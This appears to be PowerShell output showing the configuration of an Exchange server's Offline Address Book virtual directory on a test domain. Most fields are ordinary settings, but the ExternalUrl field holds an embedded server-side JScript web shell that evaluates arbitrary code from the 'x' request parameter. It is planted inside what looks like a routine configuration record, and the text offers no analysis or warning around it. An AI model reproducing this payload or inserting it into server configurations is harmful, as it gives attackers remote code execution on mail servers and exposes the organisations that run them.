RunspaceId                      : 5bd1a2c4-0000-4000-8000-000000000001
PollInterval                    : 480
OfflineAddressBooks             : {\Default Offline Address Book}
RequireSSL                      : True
BasicAuthentication             : False
WindowsAuthentication           : True
OAuthAuthentication             : True
MetabasePath                    : IIS://EXCH01.corp.example.test/W3SVC/1/ROOT/OAB
Path                            : C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\OAB
Server                          : EXCH01
InternalUrl                     : https://exch01.corp.example.test/OAB
InternalAuthenticationMethods   : {WindowsIntegrated}
ExternalUrl                     : http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["x"],"unsafe");}</script>
ExternalAuthenticationMethods   : {WindowsIntegrated}
Name                            : OAB (Default Web Site)
